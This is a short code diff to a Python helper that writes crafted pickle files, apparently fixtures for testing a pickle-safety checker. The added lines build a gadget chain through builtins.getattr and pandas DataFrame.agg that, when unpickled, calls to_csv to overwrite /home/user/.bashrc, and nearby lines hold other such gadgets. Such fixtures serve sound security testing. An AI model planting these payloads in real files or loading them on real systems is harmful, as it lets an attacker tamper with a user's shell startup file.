@@ -441,6 +441,12 @@ def plant_session5(p: Path, marker: str) -> None:
     (p / "dataframe_setitem.pkl").write_bytes(
         b"\x80\x02" + g("pandas", "DataFrame") + b")R" + gadget + u(marker) + b"s."
     )
+    # DataFrame.agg calls the method its first argument names: to_csv writes a file
+    frame = g("pandas", "DataFrame") + b"(}" + u("a") + b"]K\x01asNtR"
+    (p / "dataframe_agg.pkl").write_bytes(
+        b"\x80\x02" + g("builtins", "getattr") + b"(" + frame + u("agg") + b"tR("
+        + u("to_csv") + b"K\x00" + u("/home/user/.bashrc") + b"tR."
+    )  # fmt: skip
     # a Bunch answers APPENDS' lookup of "extend" with its item
     (p / "bunch_extend.pkl").write_bytes(
         b"\x80\x02" + g("sklearn.utils._bunch", "Bunch") + b")R" + u("extend") + gadget
